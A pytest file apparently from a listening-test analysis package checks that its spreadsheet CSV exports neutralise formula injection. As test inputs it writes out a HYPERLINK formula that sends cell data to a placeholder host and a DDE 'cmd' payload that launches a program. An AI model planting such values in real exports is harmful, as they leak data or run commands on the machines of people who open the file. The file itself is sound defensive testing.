"""Copies for spreadsheets: whatever came from outside cannot run, whatever was computed stays."""

from __future__ import annotations

import csv
import io
from dataclasses import fields, replace
from pathlib import Path

import pytest
from click.testing import CliRunner

from synbench_listening.answers.ratings import COLUMNS, Rating, rating_cells, write_ratings
from synbench_listening.answers.spreadsheet import harmless_csv, harmless_text
from synbench_listening.commands.group import listen

FORMULA = '=HYPERLINK("http://x/?"&A1)'
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take a cell, or what it parts from one, for a formula."""
    parts = cell.replace("\t", ";").replace("\n", ";").replace("\r", ";").split(";")
    return any(part.strip(' "\ufeff').startswith(STARTS) for part in parts)


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "  =1", "\uff1d1", "\ufeff=1"]
)
def test_a_text_that_starts_a_formula_gets_an_apostrophe(text: str) -> None:
    assert harmless_text(text) == "'" + text


@pytest.mark.parametrize("text", ['x";=1+1', "a;\t@SUM(A1)", "fine\n=1", "a,b;-2"])
def test_a_text_that_is_parted_elsewhere_starts_no_formula_either(text: str) -> None:
    assert not runs(harmless_text(text))


@pytest.mark.parametrize("text", ["fine = fine", "P2P-SynCodec", "a@b", "", "L-ABCDEFGH"])
def test_other_texts_stay(text: str) -> None:
    assert harmless_text(text) == text


def test_numbers_that_were_computed_stay_numbers() -> None:
    rows = cells(harmless_csv(["difference", "said"], [[-1.5, "-1.5"], [-3, "x"], [None, "=x"]]))
    assert rows == [["difference", "said"], ["-1.5", "'-1.5"], ["-3", "x"], ["", "'=x"]]


@pytest.mark.parametrize("field", [f.name for f in fields(Rating) if f.type == "str"])
def test_no_text_of_a_rating_can_run(field: str) -> None:
    plain = Rating(session="s", listener="l", test="ccr", item="i", condition="c", score=-2)
    data = harmless_csv(COLUMNS, rating_cells([replace(plain, **{field: FORMULA})]))
    (row,) = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert row[field] == "'" + FORMULA
    assert row["score"] == "-2"
    assert not any(runs(cell) for name, cell in row.items() if name != "score")


def test_tables_of_an_analysis_are_copied_without_formulas(tmp_path: Path) -> None:
    """Listener, item and condition come from a table that anybody may have written."""
    ratings = [
        Rating(
            session=f"=s{who}",
            listener=f"=cmd|'/C calc'!A{who}",
            test="mushra",
            item=f"@item{item}",
            condition=condition,
            score=score - who - item,
        )
        for who in range(4)
        for item in range(3)
        for condition, score in (("+codec", 70), ("-other", 40), ("reference", 100))
    ]
    write_ratings(tmp_path / "ratings.csv", ratings)
    out = tmp_path / "tables"
    command = ["analyse", str(tmp_path / "ratings.csv"), "--out", str(out), "--spreadsheet"]
    done = CliRunner().invoke(listen, [*command, "--no-mixed-model"])
    assert done.exit_code == 0, done.output
    for path in sorted(out.glob("*.csv")):
        copy = cells((out / "spreadsheet" / path.name).read_bytes())
        raw = cells(path.read_bytes())
        assert len(copy) == len(raw)
        for before, after in zip(raw[1:], copy[1:], strict=True):
            for old, new in zip(before, after, strict=True):
                number = old.lstrip("-").replace(".", "").replace("e-", "").isdigit()
                assert (new == old) if number else not runs(new)
    assert any("+codec" in path.read_text() for path in out.glob("*.csv"))
